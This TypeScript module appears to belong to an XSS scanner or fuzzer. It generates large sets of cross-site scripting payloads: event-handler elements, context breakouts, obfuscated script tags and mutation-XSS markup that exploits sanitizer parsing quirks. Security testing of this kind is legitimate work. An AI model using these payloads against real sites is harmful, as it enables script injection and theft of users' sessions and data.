import type { Piece } from './piece';

/** An element that calls a handler: by itself, or when somebody touches it. */
const ELEMENTS: [before: string, handler: string, after: string][] = [
  ['<img src=x', 'onerror', '>'],
  ['<svg', 'onload', '>'],
  ['<body', 'onload', '>'],
  ['<body', 'onpageshow', '>'],
  ['<details open', 'ontoggle', '>'],
  ['<video src=x', 'onerror', '></video>'],
  ['<audio src=x', 'onerror', '></audio>'],
  ['<video><source', 'onerror', '></video>'],
  ['<iframe', 'onload', '></iframe>'],
  ['<object data=x', 'onerror', '></object>'],
  ['<embed src=x', 'onload', '>'],
  ['<link rel=stylesheet href=x', 'onerror', '>'],
  ['<script src=x', 'onerror', '></script>'],
  ['<style', 'onload', '></style>'],
  ['<input autofocus', 'onfocus', '>'],
  ['<select autofocus', 'onfocus', '></select>'],
  ['<textarea autofocus', 'onfocus', '></textarea>'],
  ['<b tabindex=0 autofocus', 'onfocusin', '>x</b>'],
  ['<marquee', 'onstart', '>x</marquee>'],
  ['<a href=#', 'onclick', '>x</a>'],
  ['<button', 'onpointerdown', '>x</button>'],
  ['<div', 'onmouseover', '>x</div>'],
  ['<form', 'onsubmit', '><button>x</button></form>'],
  ['<dialog open', 'onclose', '>x</dialog>'],
  ['<math', 'onclick', '>x</math>'],
  ['<x contenteditable', 'onbeforeinput', '>x</x>'],
  ['<input type=image src=x', 'onerror', '>'],
  ['<image src=x', 'onerror', '>'],
];
const WRITTEN: ((before: string, handler: string, call: string, after: string) => string)[] = [
  (before, handler, call, after) => `${before} ${handler}=${call}${after}`,
  (before, handler, call, after) => `${before} ${handler}="${call}"${after}`,
  (before, handler, call, after) => `${before}/${handler}='${call}'${after}`,
  (before, handler, call, after) => `${before}\n${handler.toUpperCase()} = ${call}//${after}`,
  (before, handler, call) => `${before} ${handler}=&#97;${call.slice(1)} `,
];

export const HANDLERS: Piece[] = ELEMENTS.flatMap(([before, handler, after]) =>
  WRITTEN.map(
    (written): Piece =>
      (call) =>
        written(before, handler, call, after),
  ),
);

/** What ends the place that a text stands in, and something behind it. */
export const BREAKOUTS: Piece[] = [
  '">',
  "'>",
  '`>',
  '-->',
  '--!>',
  ']]>',
  '?>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</select>',
  '</iframe>',
  '</svg>',
  '</p></main></body>',
].flatMap((end): Piece[] => [
  (call) => `${end}<img src=x onerror=${call}>`,
  (call) => `${end}<svg onload=${call}>`,
  (call) => `${end}<script>${call}</script>`,
]);

export const SCRIPTS: Piece[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT>${call}</SCRIPT>`,
  (call) => `<script\n>${call}</script >`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<script type="module">${call}</script>`,
  (call) => `<script>${call}`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script>${call.replaceAll('(', '&#40;')}</script></svg>`,
  (_call, canary) => `<script src="${canary}"></script>`,
  (_call, canary) => `<script src=${canary.replace('https:', '')}></script>`,
  (_call, canary) => `<svg><script href="${canary}"/></svg>`,
  (call) => `<s\u0000cript>${call}</script>`,
  (call) => `<xml:script xmlns:xml="http://www.w3.org/1999/xhtml">${call}</xml:script>`,
  (call) => `" onmouseover="${call}`,
  (call) => `' onfocus='${call}' autofocus='`,
  (call) => `x onerror=${call}`,
  (call) => `" autofocus onfocus=${call} x="`,
  (call) => `javascript:${call}" x="`,
];

/** Markup that turns into something else when it is parsed a second time, or by other rules. */
export const MUTANTS: Piece[] = [
  (call) => `<svg><style><img src=x onerror=${call}></style></svg>`,
  (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  (call) => `<math><mi><mglyph></mi><style><img src=x onerror=${call}></style></math>`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<template><img src=x onerror=${call}></template>`,
  (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  (call) => `<select><style></select><img src=x onerror=${call}></style>`,
  (call) =>
    `<svg><foreignObject><iframe srcdoc="<img src=x onerror=parent.${call}>"></iframe></foreignObject></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><set onbegin=${call} attributename=x dur=1s>`,
  (call) => `<svg><a><animate attributeName=href values=javascript:${call} /><text y=20>x</text></a></svg>`,
  (call) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${call}'/></svg>#x"/></svg>`,
  (call) => `<svg><image href=x onerror=${call}></image></svg>`,
  (call) => `<math href="javascript:${call}">x</math>`,
  (call) => `<table background="javascript:${call}"><td>x</td></table>`,
  (call) => `<img src="\`\`onerror=${call}">`,
  (call) => `<img alt="<x" title="/><img src=x onerror=${call}>">`,
  (call) => `<!--<img src="--><img src=x onerror=${call}//">`,
  (call) => `<![CDATA[<img src=x onerror=${call}>]]>`,
  (call) => `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>${call}</script></x>`,
  (call) => `<plaintext><img src=x onerror=${call}>`,
  (call) => `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
];
